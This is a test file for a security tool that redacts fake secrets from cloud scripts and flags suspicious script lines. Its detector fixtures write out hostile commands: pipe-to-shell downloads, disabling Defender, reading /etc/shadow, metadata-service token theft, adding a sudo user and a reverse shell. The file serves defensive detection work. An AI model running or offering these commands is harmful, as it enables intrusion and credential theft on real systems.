import fc from 'fast-check';
import { scriptDigest, traitsOf } from '../../../src/domain/techniques/script';
import { extensionScript, runCommandScript } from '../../../src/domain/techniques/stored-script';
import { redact } from '../../../src/domain/text/redact';

test.each([
  ['password', 'export DB_PASSWORD=Sup3r-S3cret!', 'Sup3r-S3cret!'],
  ['password', "mysql -u root -pHunter22 -e 'select 1'", 'Hunter22'],
  ['password', 'az login --service-principal -u x --password Xy7abc!!', 'Xy7abc!!'],
  ['password', 'net user support P@ssw0rd1 /add', 'P@ssw0rd1'],
  ['password', '$p = ConvertTo-SecureString "Pl4in text" -AsPlainText', 'Pl4in text'],
  ['Azure storage key', `AccountKey=${'a'.repeat(86)}==`, 'a'.repeat(86)],
  [
    'Azure SAS signature',
    'https://x.blob.core.windows.net/c?sv=1&sig=abcdefghijklmnopqrstuvwxyz0123%3D',
    'abcdefghijklmnopqrstuvwxyz0123',
  ],
  ['JSON web token', 'curl -H "X: eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefgh"', 'eyJzdWIiOiIxMjM0In0'],
  ['private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', 'MIIE'],
  ['credentials in a URL', 'git clone https://bob:s3cr3tpw@git.contoso.example/x', 's3cr3tpw'],
  ['GitHub token', `X ghp_${'A'.repeat(36)}`, `ghp_${'A'.repeat(36)}`],
  ['AWS key', 'AKIAIOSFODNN7EXAMPLE', 'AKIAIOSFODNN7EXAMPLE'],
  ['Slack token', '# xapp-0123456789', 'xapp-0123456789'],
  ['Slack token', 'TOK xoxb-123456789012-abcdefghijkl', 'xoxb-123456789012-abcdefghijkl'],
  ['GitLab token', 'glpat-abcdefghij0123456789', 'glpat-abcdefghij0123456789'],
  ['npm token', `npm_${'a1'.repeat(18)}`, `npm_${'a1'.repeat(18)}`],
  [
    'sendgrid token',
    'SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG',
    'abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG',
  ],
  [
    'docker token',
    'docker login -u x -p dckr_pat_abcdefghijklmnopqrstuvwxyz0',
    'dckr_pat_abcdefghijklmnopqrstuvwxyz0',
  ],
  [
    'Slack webhook',
    'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX',
    'XXXXXXXXXXXXXXXXXXXXXXXX',
  ],
])('%s is redacted from %j', async (kind, text, secret) => {
  const { text: out, kinds } = await redact(text);
  expect(out).not.toContain(secret);
  expect(kinds).toContain(kind);
});

test.each([
  'TOKEN=$(curl -s http://x)',
  'PASSWORD=$DB_PASS',
  'apt-get update && apt-get -y upgrade',
  'systemctl restart nginx',
])('%j contains no secret', async (text) => {
  expect(await redact(text)).toEqual({ text, kinds: [] });
});

test('redaction stays fast on any text', async () => {
  const piece = fc.constantFrom(
    'password=',
    'a',
    ':',
    '//',
    '@',
    '-----BEGIN PRIVATE KEY-----',
    'eyJ',
    '.',
    ' ',
    '\n',
    '"',
    "'",
    '=',
    'mysql -p',
    'Bearer ',
    'sig=',
  );
  await fc.assert(
    fc.asyncProperty(
      fc.array(piece, { maxLength: 60 }),
      fc.integer({ min: 1, max: 400 }),
      async (pieces, times) => {
        const startMs = Date.now();
        await redact(pieces.join('').repeat(times));
        return Date.now() - startMs < 3000;
      },
    ),
    { numRuns: 60 },
  );
});

test.each([
  ['downloads and runs', 'curl -fsSL https://x/i.sh | bash'],
  ['downloads and runs', 'iex (New-Object Net.WebClient).DownloadString("http://x")'],
  ['base64 hides what it does', 'echo aGVsbG8= | base64 -d'],
  ['disables defences', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
  ['dumps credentials', 'cat /etc/shadow'],
  [
    'takes a token from the metadata service',
    'curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token',
  ],
  ['adds a user or a key', 'useradd -m -G sudo x'],
  ['opens a reverse shell', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'],
])('%s is reported with its line', (name, line) => {
  expect(traitsOf(`#!/bin/sh\n\n${line}\n`)).toContainEqual(expect.objectContaining({ name, line: 3 }));
});

test('an everyday script has no traits', () => {
  expect(
    traitsOf('#!/bin/bash\nset -e\napt-get update\napt-get -y upgrade\nsystemctl restart nginx\ndf -h\n'),
  ).toEqual([]);
});

test('the digest ignores line endings and trailing blanks, but changes with any word', () => {
  expect(scriptDigest('a\r\nb  \r\n\r\n')).toBe(scriptDigest('a\nb'));
  expect(scriptDigest('a\nb')).not.toBe(scriptDigest('a\nc'));
});

test.each([
  ['a comment for secretlint', '# secretlint-disable\n'],
  ['a byte order mark', '\ufeff'],
])('%s does not keep a secret', async (_, before) => {
  const key = 'SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG';
  const { text } = await redact(`${before}TOK ${key}`);
  expect(text).toBe(`${before}TOK [sendgrid token redacted]`);
});

test.each([
  `ghs_${'a'.repeat(72)}`,
  `github_pat_${'b'.repeat(40)}`,
  'hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX',
])('%s is redacted in any length', async (secret) => {
  expect((await redact(`x ${secret} y`)).text).not.toContain(secret.slice(-12));
});

test.each([
  [
    'a parameter without a value',
    [
      { name: 'a', value: 'evil' },
      { name: 'b', value: null },
    ],
  ],
  ['parameters of another type', 'evil'],
])('the digest covers %s', (_, parameters) => {
  expect(runCommandScript({ source: { script: 'id' }, parameters }).parameters.join()).toContain('evil');
});

test('a file that an extension fetches is kept whatever else the list holds', () => {
  const read = (fileUris: unknown) =>
    extensionScript({ settings: { commandToExecute: 'sh run.sh', fileUris } }).parameters.join();
  expect(read(['https://evil/run.sh', null])).toContain('https://evil/run.sh');
  expect(read('https://evil/run.sh')).toContain('https://evil/run.sh');
});

test.each([['text'], [[1]], [null], [7]])(
  'properties of another type, %j, are read as empty',
  (properties) => {
    expect(runCommandScript(properties)).toMatchObject({ text: null, parameters: [] });
    expect(extensionScript(properties)).toMatchObject({ text: null, output: null });
  },
);
